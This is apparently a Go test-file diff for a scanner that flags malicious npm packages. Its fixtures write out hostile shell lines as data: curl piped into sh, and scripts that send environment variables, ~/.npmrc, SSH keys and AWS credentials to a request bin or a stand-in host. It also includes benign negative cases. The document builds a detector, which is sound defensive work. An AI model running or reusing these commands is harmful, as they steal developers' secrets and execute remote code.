@@ -21,6 +21,15 @@ func TestLifecycleScript(t *testing.T) {
 func TestShellDownloadExec(t *testing.T) {
 	rt.Check(t, ShellDownloadExec{}, []rt.Case{
 		{"curl_pipe_sh", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"curl -s https://setup.example.invalid/i.sh | sh"}`)}, finding.SeverityCritical},
+		// a shipped shell script nothing runs at install: sending secrets
+		// is theft whoever starts it; to a request bin it is critical
+		{"shipped_sh_env_to_bin", map[string]string{"package.json": rt.Pkg(`"bin":{"t":"cli.js"}`), "cli.js": "require('child_process').spawn('sh', [__dirname + '/scripts/check.sh'], {detached: true})",
+			"scripts/check.sh": "#!/bin/sh\nOUT=$(mktemp)\n{ env; cat \"$HOME/.npmrc\"; } > \"$OUT\"\ngzip -c \"$OUT\" | base64 | curl -s -X POST --data-binary @- https://webhook.site/0f6c-test\n"}, finding.SeverityCritical},
+		{"shipped_sh_keys_to_host", map[string]string{"package.json": rt.Pkg(``), "tools/sync": "#!/usr/bin/env bash\ntar czf - -C \"$HOME\" .ssh .aws | curl -s -X POST --data-binary @- https://sync.example.invalid/u\n"}, finding.SeverityHigh},
+		// an integration test posting to the server it started
+		{"shipped_test_localhost", map[string]string{"package.json": rt.Pkg(``), "integration/test.sh": "#!/usr/bin/bash\nNUMBER=$RANDOM\ncurl -i -X POST -H 'Content-Type: application/json' localhost:3000/post/$NUMBER --data {} > POST\nenv | grep -q CI && cat ~/.npmrc | curl -s -X POST --data-binary @- http://127.0.0.1:3000/echo\n"}, finding.SeverityNone},
+		// a release script the maintainers run: a token used, not sent
+		{"shipped_release_sh", map[string]string{"package.json": rt.Pkg(``), "scripts/release.sh": "#!/bin/sh\nset -e\necho \"//registry.npmjs.invalid/:_authToken=${NPM_TOKEN}\" > .npmrc\nnpm publish --access public\ngit push --follow-tags\n"}, finding.SeverityNone},
 		// files handed to a shell or an interpreter, with or without an extension
 		{"bash_no_extension", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"bash ./install"}`), "install": "#!/bin/bash\nenv | curl -s -X POST -d @- http://x.example.invalid/c\n"}, finding.SeverityCritical},
 		{"sh_subdir", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"sh scripts/setup"}`), "scripts/setup": "curl -s http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
